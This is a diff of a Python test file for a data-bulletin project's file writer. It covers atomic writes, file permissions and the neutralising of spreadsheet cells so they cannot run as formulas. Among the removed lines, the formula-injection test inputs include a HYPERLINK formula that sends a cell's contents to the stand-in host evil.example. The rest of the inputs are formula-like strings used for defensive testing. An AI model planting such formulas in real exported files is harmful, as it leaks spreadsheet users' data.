@@ -1,5 +1,5 @@
-"""bulletin.core.files: the all-or-nothing writer and its recovery, the folder lock, CSV records with
-their lines as an editor counts them, and spreadsheet-safe cells on Arrow tables."""
+"""bulletin.core.files: the one writer of files, all or nothing, and its recovery; the folder lock;
+the permissions of what it writes; cells a spreadsheet cannot run as formulas."""
 
 from __future__ import annotations
 
@@ -8,23 +8,22 @@ import os
 import stat
 from pathlib import Path
 
-import pyarrow as pa
+import pandas as pd
 import pytest
 
 from bulletin.core import files
 from bulletin.core.files import (
     JOURNAL_NAME,
     TEMP_SUFFIX,
-    CsvRecordError,
     FileTransaction,
     FolderBusyError,
     InterruptedCommitError,
-    csv_records,
     folder_lock,
-    neutralise_arrow,
     neutralise_cell,
+    neutralise_frame,
     recover,
-    restore_arrow,
+    restore_cell,
+    restore_frame,
     write_atomic,
 )
 
@@ -211,56 +210,60 @@ def test_write_atomic_gives_the_user_s_permissions(tmp_path: Path) -> None:
     assert [p.name for p in path.parent.iterdir()] == ["x.json"]
 
 
-def test_csv_records_count_lines_as_an_editor_does() -> None:
-    text = 'h1,h2\r\n"a\r\nb",1\r\n\r\nc,2\r\n"x\ny\nz",3\n'
-    assert [(first, last) for first, last, fields in csv_records(text) if fields] == [
-        (1, 1),
-        (2, 3),
-        (5, 5),
-        (6, 8),
+@pytest.fixture
+def umask_022():
+    """Run the test under the commonest umask, 022, as a user's shell has it."""
+    old = os.umask(0o022)
+    try:
+        yield
+    finally:
+        os.umask(old)
+
+
+def _readable_by_everyone(path: Path) -> bool:
+    mode = stat.S_IMODE(path.stat().st_mode)
+    return mode == 0o644 and bool(mode & stat.S_IRGRP) and bool(mode & stat.S_IROTH)
+
+
+def test_every_writer_makes_files_readable_like_any_other_output(tmp_path: Path, umask_022) -> None:
+    from bulletin.data.importers.provenance import write_records
+    from bulletin.data.tables import write_table
+
+    written = [
+        write_atomic(tmp_path / "one" / "x.json", "{}\n"),
+        write_records("drug_offences", tmp_path / "records", [{"file": "a.csv", "sources": []}]),
+        write_table(
+            "seizures_annual",
+            pd.DataFrame(
+                {
+                    "country": ["KGZ"],
+                    "year": [2016],
+                    "drug": ["heroin"],
+                    "kg": [1.5],
+                    "source": ["s"],
+                    "status": ["official"],
+                }
+            ),
+            tmp_path / "table",
+        ),
     ]
+    with FileTransaction(tmp_path / "transaction") as transaction:
+        transaction.stage(tmp_path / "transaction" / "t.csv", "x\n")
+        transaction.stage(tmp_path / "transaction" / "provenance" / "t.json", b"{}\n")
+    written += transaction.committed
+    assert len(written) == 5
+    for path in written:
+        assert _readable_by_everyone(path), f"{path}: {oct(path.stat().st_mode)}"
 
 
-def test_csv_records_name_a_field_over_the_limit() -> None:
-    text = "a,b,c\n1,2,3\n4,\"" + "x" * 200_000 + "\n5,6,7\n"
-    with pytest.raises(CsvRecordError) as caught:
-        list(csv_records(text))
-    assert caught.value.line == 3
-    assert caught.value.column == 1
-    assert "quote" in caught.value.reason
+SPREADSHEET_TEXTS = ["=1+1", "+1+2", "-x", "@SUM(A1)", "\tcmd", "'=quoted", "-12.5", "plain", ""]
 
 
-TEXTS = [
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
-    "+1+2",
-    "-x",
-    "@SUM(A1)",
-    "\tcmd",
-    "\r=1",
-    "'=already quoted",
-    "''@twice",
-    "-12.5",
-    "+3e5",
-    "'quoted",
-    "plain",
-    "",
-]
-
-
-def test_arrow_cells_neutralised_as_neutralise_cell_does_and_restored() -> None:
-    table = pa.table(
-        {
-            "text": pa.array(TEXTS),
-            "category": pa.array(TEXTS).dictionary_encode(),
-            "kg": pa.array([float(i) for i in range(len(TEXTS))]),
-        }
-    )
-    safe = neutralise_arrow(table)
-    expected = [neutralise_cell(t) for t in TEXTS]
-    assert safe.column("text").to_pylist() == expected
-    assert safe.column("category").to_pylist() == expected
-    assert safe.column("kg").equals(table.column("kg"))
-    back = restore_arrow(safe)
-    assert back.column("text").to_pylist() == TEXTS
-    assert back.column("category").to_pylist() == TEXTS
-    assert back.schema == table.schema
+def test_cells_and_frames_come_back_as_they_were() -> None:
+    assert [restore_cell(neutralise_cell(t)) for t in SPREADSHEET_TEXTS] == SPREADSHEET_TEXTS
+    kg = [float(i) for i in range(len(SPREADSHEET_TEXTS))]
+    frame = pd.DataFrame({"=title": SPREADSHEET_TEXTS, "kg": kg})
+    safe = neutralise_frame(frame)
+    assert list(safe.columns) == ["'=title", "kg"]
+    assert safe["'=title"].tolist() == [neutralise_cell(t) for t in SPREADSHEET_TEXTS]
+    pd.testing.assert_frame_equal(restore_frame(safe), frame)
